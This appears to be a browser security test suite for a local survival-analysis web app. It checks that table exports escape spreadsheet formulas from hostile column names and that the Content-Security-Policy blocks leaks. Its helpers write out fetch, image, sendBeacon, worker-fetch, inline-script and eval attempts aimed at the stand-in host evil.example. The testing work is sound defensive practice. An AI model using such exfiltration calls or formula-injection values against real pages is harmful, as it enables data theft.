// What a hostile file, a hostile link or a compromised dependency can do from
// the built page, in headless Debian Chromium:
//  1. Spreadsheet formulas: R's lung data with hostile column names and
//     levels (tests/node/hostile_table.mjs) runs through the page (dist/);
//     every table's CSV download and the copied table (text and HTML on the
//     clipboard) hold no cell a spreadsheet would run, and number-like levels
//     stay numbers.
//  2. Content-Security-Policy (scripts/vite_csp.js): the hosted page over
//     http and the single file from file:// carry their policy; a fetch, an
//     <img>, navigator.sendBeacon to another host, an injected inline script
//     and eval from the page, and a fetch from inside the engine worker are
//     refused (a securitypolicyviolation event each, nothing reaches the
//     network). That the app itself runs under the policy with no violation
//     is what every flow of page.test.mjs and offline.test.mjs checks too
//     (support.mjs turns each violation into a console error).
// Needs `bash scripts/build.sh` first (dist/, dist-single/).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromiumSuite, watchErrors, openExample } from './support.mjs';
import { HOSTILE, hostileLungCsv, hostileSpec, readAsFormula, parseCsv } from '../node/hostile_table.mjs';
import { policy, inlineScriptHashes } from '../../scripts/vite_csp.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const dist = path.join(root, 'dist');
const singleFile = path.join(root, 'dist-single/localsurv.html');

const WAIT = 30_000;
const TEST_TIMEOUT = 120_000;
const EVIL = 'http://evil.example';

const proxied = [];
let origin;
let context;
let userDataDir;

const browser = chromiumSuite({ dir: dist, required: [path.join(dist, 'index.html'), singleFile], proxied, wait: WAIT, profilePrefix: 'localsurv-safety-' });
before(async () => ({ origin, context, userDataDir } = await browser.start()));
after(() => browser.stop());

async function runToDone(page) {
  await page.click('#run-button');
  await page.waitForFunction(() => /^(Done|The analysis|Could not|Cancelled)/.test(document.getElementById('run-status')?.textContent ?? ''));
  assert.match(await page.textContent('#run-status'), /^Done: /);
}

test('hostile column names and levels: every table CSV download and the copied table hold no spreadsheet formula', { timeout: TEST_TIMEOUT }, async () => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  const page = await context.newPage();
  const errors = watchErrors(page);
  try {
    await page.goto(origin + '/', { waitUntil: 'load' });
    await page.setInputFiles('#file-input', { name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileLungCsv()) });
    await page.waitForSelector('#setup-section:not([hidden])', { state: 'visible' });
    await page.click('#spec-details summary');
    await page.fill('#spec-text', JSON.stringify(hostileSpec()));
    await page.click('#spec-apply');
    assert.equal(await page.textContent('#spec-status'), 'Applied.');
    await runToDone(page);

    const buttons = page.locator('#results button', { hasText: /^CSV$/ });
    const n = await buttons.count();
    assert.ok(n >= 7, `only ${n} tables with a CSV button`);
    let table1 = null;
    let negativeNumbers = 0;
    for (let i = 0; i < n; ++i) {
      const [dl] = await Promise.all([page.waitForEvent('download'), buttons.nth(i).click()]);
      const text = fs.readFileSync(await dl.path(), 'utf8');
      assert.ok(text.startsWith('\uFEFF'), 'BOM for Excel');
      const rows = parseCsv(text.slice(1));
      const cells = rows.flat();
      assert.deepEqual(cells.filter(readAsFormula), [], `${dl.suggestedFilename()}: cells a spreadsheet runs`);
      negativeNumbers += cells.filter((c) => /^-\d/.test(c)).length;
      if (dl.suggestedFilename() === 'main-table1.csv') table1 = rows;
    }
    assert.ok(negativeNumbers > 0, 'negative numbers (SMDs) stay numbers');
    assert.ok(table1, 'no Table 1 download');
    const labels = table1.map((r) => r[0]);
    for (const want of ["'  @A1", '  -0.52', '  +3', `'${HOSTILE.ecog}`, `'${HOSTILE.age}`, `'${HOSTILE.weight}`]) assert.ok(labels.includes(want), `${want} not in ${labels.join(' | ')}`);
    assert.ok(table1[1].some((c) => c.startsWith(`'${HOSTILE.group} = ${HOSTILE.sexLevels[1]} (n = `)), table1[1].join(' | '));

    // The copied Table 1: plain text (TSV) and HTML, as a spreadsheet would receive them on paste.
    await page.locator('#card-main-table1 button', { hasText: 'Copy table' }).click();
    await page.waitForFunction(() => /^Copied/.test(document.querySelector('#card-main-table1 .copy-status')?.textContent ?? ''));
    assert.equal(await page.textContent('#card-main-table1 .copy-status'), 'Copied.', 'copied as HTML and text');
    const clip = await page.evaluate(async () => {
      const [item] = await navigator.clipboard.read();
      const html = await (await item.getType('text/html')).text();
      const doc = new DOMParser().parseFromString(html, 'text/html');
      return {
        text: await navigator.clipboard.readText(),
        htmlCells: [...doc.querySelectorAll('td, th')].map((c) => c.textContent.replace(/^\u00a0+/, '')),
      };
    });
    const textCells = clip.text.split('\r\n').flatMap((line) => line.split('\t'));
    assert.deepEqual(textCells.filter(readAsFormula), [], 'copied text');
    assert.deepEqual(clip.htmlCells.filter(readAsFormula), [], 'copied HTML');
    // The text keeps the indent as spaces, the HTML as non-breaking spaces before the cell.
    assert.ok(textCells.includes("'  @A1") && textCells.includes('  -0.52'), textCells.slice(0, 30).join(' | '));
    assert.ok(clip.htmlCells.includes("'@A1") && clip.htmlCells.includes('-0.52'), clip.htmlCells.slice(0, 30).join(' | '));

    // The HTML report of this run, opened from disk on its own: its policy lets it load nothing from elsewhere.
    const [rdl] = await Promise.all([page.waitForEvent('download'), page.click('#report-button')]);
    const reportFile = path.join(userDataDir, 'report.html');
    fs.copyFileSync(await rdl.path(), reportFile);
    const report = await context.newPage();
    try {
      await report.goto(`file://${reportFile}`);
      const violation = await report.evaluate((evil) => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        const img = document.createElement('img');
        img.src = `${evil}/report.png?leak=1`;
        document.body.append(img);
        setTimeout(() => resolve(null), 3000);
      }), EVIL);
      assert.equal(violation, 'img-src', 'the report blocks an image from another host');
    } finally {
      await report.close();
    }
    assert.deepEqual(errors, []);
  } finally {
    await page.close();
  }
});

/**
 * From the page: a fetch, an <img>, a beacon to another host, an inline
 * script and eval; returns what the page saw: the securitypolicyviolation
 * events and what each call did.
 */
async function tryToLeak(page) {
  return page.evaluate(async (evil) => {
    const events = [];
    document.addEventListener('securitypolicyviolation', (e) => events.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    const outcome = {};
    try {
      await fetch(`${evil}/fetch?leak=1`);
      outcome.fetch = 'fetched';
    } catch (e) {
      outcome.fetch = e.name;
    }
    outcome.img = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('error');
      img.src = `${evil}/img.png?leak=1`;
      document.body.append(img);
    });
    outcome.beacon = navigator.sendBeacon(`${evil}/beacon`, 'leak=1');
    const script = document.createElement('script');
    script.textContent = 'window.injectedRan = true;';
    document.head.append(script);
    outcome.inlineScript = window.injectedRan === true ? 'ran' : 'blocked';
    try {
      outcome.eval = String(eval('1 + 1'));
    } catch (e) {
      outcome.eval = e.name;
    }
    // Violation events are queued as tasks; let them arrive.
    for (let i = 0; i < 50 && events.length < 5; ++i) await new Promise((r) => setTimeout(r, 20));
    return { events, outcome };
  }, EVIL);
}

function assertRefused({ events, outcome }) {
  // sendBeacon's return value only says the beacon was queued; its violation event below says it was refused.
  const { beacon, ...refused } = outcome;
  assert.equal(typeof beacon, 'boolean');
  assert.deepEqual(refused, { fetch: 'TypeError', img: 'error', inlineScript: 'blocked', eval: 'EvalError' });
  const seen = events.map((e) => `${e.directive} ${e.blocked}`).sort();
  assert.deepEqual(seen, [
    `connect-src ${EVIL}/beacon`,
    `connect-src ${EVIL}/fetch?leak=1`,
    `img-src ${EVIL}/img.png?leak=1`,
    'script-src eval',
    'script-src-elem inline',
  ]);
}

/** Inside the engine worker: a fetch to another host; the worker's own violation report reaches the page's console. */
async function workerFetch(page, errors) {
  const workers = page.workers();
  assert.equal(workers.length, 1, `workers: ${workers.map((w) => w.url())}`);
  assert.match(workers[0].url(), /^blob:/, 'the engine worker is a Blob URL worker (it inherits the page policy)');
  const result = await workers[0].evaluate(async (evil) => {
    try {
      await fetch(`${evil}/from-worker`);
      return 'fetched';
    } catch (e) {
      return e.name;
    }
  }, EVIL);
  assert.equal(result, 'TypeError');
  const report = `Content-Security-Policy: the engine worker was refused ${EVIL}/from-worker (connect-src)`;
  for (let i = 0; i < 50 && !errors.some((e) => e.includes(report)); ++i) await new Promise((r) => setTimeout(r, 20));
  assert.ok(errors.some((e) => e.includes(report)), `no violation from the worker: ${JSON.stringify(errors)}`);
}

/**
 * The console errors are those tryToLeak and workerFetch provoked, each
 * violation reported by support.mjs's listener (which is how the other suites
 * see a violation in their flows), and nothing else.
 */
function assertOnlyProvoked(errors) {
  for (const report of [
    `connect-src refused ${EVIL}/fetch?leak=1`,
    `img-src refused ${EVIL}/img.png?leak=1`,
    `connect-src refused ${EVIL}/beacon`,
    'script-src-elem refused inline',
    'script-src refused eval',
  ])
    assert.ok(errors.some((e) => e.includes(`Content-Security-Policy violation: ${report}`)), `${report} not reported: ${JSON.stringify(errors)}`);
  // Chromium's own "Refused to …" and failed-fetch messages for the same calls.
  const unexpected = errors.filter((e) => !/Content[- ]Security[- ]Policy|Refused to|evil\.example/.test(e));
  assert.deepEqual(unexpected, []);
}

function metaPolicy(html) {
  const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
  assert.ok(m, 'no Content-Security-Policy meta tag');
  assert.ok(html.indexOf(m[0]) < html.search(/<script|<style|<link rel="stylesheet"/), 'the policy comes before every script and style');
  return m[1];
}

test('CSP, hosted build over http: another host is refused to fetch, <img>, sendBeacon and the engine worker; inline script and eval refused', { timeout: TEST_TIMEOUT }, async () => {
  assert.equal(metaPolicy(fs.readFileSync(path.join(dist, 'index.html'), 'utf8')), policy('hosted'));
  const page = await context.newPage();
  const errors = watchErrors(page);
  try {
    await openExample(page, origin + '/');
    assertRefused(await tryToLeak(page));
    await workerFetch(page, errors);
    assertOnlyProvoked(errors);
    assert.deepEqual(proxied.filter((e) => e.includes('evil.example')), [], 'a request reached the network');
  } finally {
    await page.close();
  }
});

test('CSP, single file from file://: the same are refused, with connect-src none', { timeout: TEST_TIMEOUT }, async () => {
  const html = fs.readFileSync(singleFile, 'utf8');
  assert.equal(metaPolicy(html), policy('single', inlineScriptHashes(html)));
  assert.match(policy('single', ['x']), /connect-src 'none'/);
  const page = await context.newPage();
  const errors = watchErrors(page);
  const attempted = [];
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith('file:')) return route.continue();
    attempted.push(url);
    return route.abort();
  });
  try {
    await page.goto(pathToFileURL(singleFile).href, { waitUntil: 'load' });
    await page.click('#example-button');
    await page.waitForSelector('#setup-section:not([hidden])', { state: 'visible' });
    assertRefused(await tryToLeak(page));
    await workerFetch(page, errors);
    assertOnlyProvoked(errors);
    assert.deepEqual(attempted, [], 'requests got past the policy');
    assert.deepEqual(proxied.filter((e) => e.includes('evil.example')), [], 'a request reached the network');
  } finally {
    await page.close();
  }
});
